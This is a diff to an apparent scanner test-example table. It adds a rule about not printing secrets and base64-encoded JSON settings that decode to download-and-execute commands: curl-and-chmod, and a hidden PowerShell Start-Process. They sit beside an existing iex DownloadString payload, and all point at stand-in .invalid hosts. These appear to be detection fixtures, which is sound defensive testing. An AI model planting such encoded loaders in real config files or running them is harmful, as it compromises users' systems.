@@ -3498,6 +3498,8 @@ EXAMPLES.update(
                 "Phishing mail often says the account is locked and asks you to re-enter your "
                 "password at https://verify.invalid/login.",
                 "When a customer asks for the API key, reply that keys stay on the server.",
+                "Show the user the rule id and file of each finding, never print the secret "
+                "value itself in the chat.",
             ),
         ),
         "pipe-to-shell-untrusted": (
@@ -5736,6 +5738,10 @@ EXAMPLES["obfuscation.encoded-setting"] = (
         '{"watchdog": {"payload": "aQBlAHgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi'
         "AEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwB4"
         'AC4AaQBuAHYAYQBsAGkAZAAvAGEAJwApAA=="}}',
+        '{"bootstrap": "Y3VybCAtZnNTTCAtbyAvdG1wL2ggaHR0cHM6Ly94LmludmFsaWQvaCAmJiBjaG1vZCAreCAv'
+        'dG1wL2g="}',
+        '{"setup": "aQB3AHIAIAAkAHUAIAAtAE8AdQB0AEYAaQBsAGUAIAAkAHoAOwAgAFMAdABhAHIAdAAtAFAAcgBv'
+        'AGMAZQBzAHMAIAAkAHoAIAAtAFcAaQBuAGQAbwB3AFMAdAB5AGwAZQAgAEgAaQBkAGQAZQBuAA=="}',
     ),
     (
         '{"greeting": "aGVsbG8gd29ybGQgYWdhaW4="}',
